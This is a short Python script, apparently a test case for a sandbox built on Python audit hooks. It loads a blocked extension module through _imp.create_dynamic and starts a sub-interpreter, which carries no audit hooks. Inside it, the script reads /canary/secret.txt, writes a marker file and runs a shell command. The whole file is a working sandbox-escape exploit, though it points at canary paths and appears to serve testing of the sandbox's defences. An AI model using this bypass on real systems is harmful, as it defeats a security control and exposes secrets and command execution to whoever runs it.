# ALL: load refused _xxsubinterpreters via _imp.create_dynamic; a new sub-interpreter has no Python audit hooks (they are per-interpreter)
import sys
_imp = sys.modules['_imp']
Spec = type(sys.__spec__)
xi = _imp.create_dynamic(Spec('_xxsubinterpreters', None, origin='/usr/lib/python3.11/lib-dynload/_xxsubinterpreters.cpython-311-x86_64-linux-gnu.so'))
i = xi.create()
xi.run_string(i, "import os\nprint(open('/canary/secret.txt').read())\nopen('/canary/out/subinterp','w').close()\nos.system('/canary/bin/reveal')\n")
